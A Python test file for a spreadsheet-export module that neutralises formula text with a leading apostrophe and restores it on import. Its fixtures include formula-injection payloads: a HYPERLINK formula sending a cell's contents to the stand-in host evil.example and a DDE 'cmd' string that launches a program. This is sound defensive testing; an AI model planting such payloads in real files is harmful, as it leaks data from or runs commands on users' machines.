"""Text a spreadsheet would run as a formula: harmless in every file written, restored on import.

Hand-written cases for ``data_access.formula_text``, then the export of a database holding such
text: the CSV file carries the apostrophe, and importing the file back finds the stored text
unchanged.
"""

from __future__ import annotations

import pandas as pd
import pytest
from sqlalchemy import select

from data_access import models as m
from data_access.formula_text import neutralise, neutralise_frame, restore
from data_access.importers.export import export_tables
from data_access.importers.workbook import read_file
from data_access.importers.writer import import_files
from data_access.scope import Scope
from tests.importers_support import BASE_FILES, IMPORT_DAY, do_import

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Click")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("Safe migration", "Safe migration"),
        ("it's = fine", "it's = fine"),  # only the first character counts
        ("'quoted'", "'quoted'"),  # an apostrophe before ordinary text is the user's own
        ("", ""),
    ],
)
def test_neutralise_and_restore(text, written):
    assert neutralise(text) == written
    assert restore(written) == text


def test_a_frame_keeps_its_numbers():
    frame = pd.DataFrame({"Title": ["=1+1", "ok"], "Amount": [-5.0, 3.0]})
    out = neutralise_frame(frame)
    assert out["Title"].tolist() == ["'=1+1", "ok"]
    assert out["Amount"].tolist() == [-5.0, 3.0]


def test_export_protects_the_text_and_import_restores_it(session, tmp_path):
    risks = (
        "project_code,risk_code,description,category,likelihood,impact,mitigation\n"
        f'PX.0001,R1,"{HOSTILE.replace(chr(34), chr(34) * 2)}",operational,3,4,@SUM(1+1)\n'
    )
    assert do_import(session, {**BASE_FILES, "risks.csv": risks}).outcome == "imported"
    export_tables(session, tmp_path)
    written = (tmp_path / "risks.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in written and ",'@SUM(1+1)" in written

    # importing the export back finds every value equal to the stored one: the apostrophes went
    files = [read_file(p.read_bytes(), p.name) for p in sorted(tmp_path.glob("*.csv"))]
    assert (
        import_files(
            session, files, user="t", scope=Scope.whole_organisation("administrator"), as_of=IMPORT_DAY
        ).outcome
        == "unchanged"
    )
    stored = session.execute(select(m.Risk.description, m.Risk.mitigation)).one()
    assert tuple(stored) == (HOSTILE, "@SUM(1+1)")
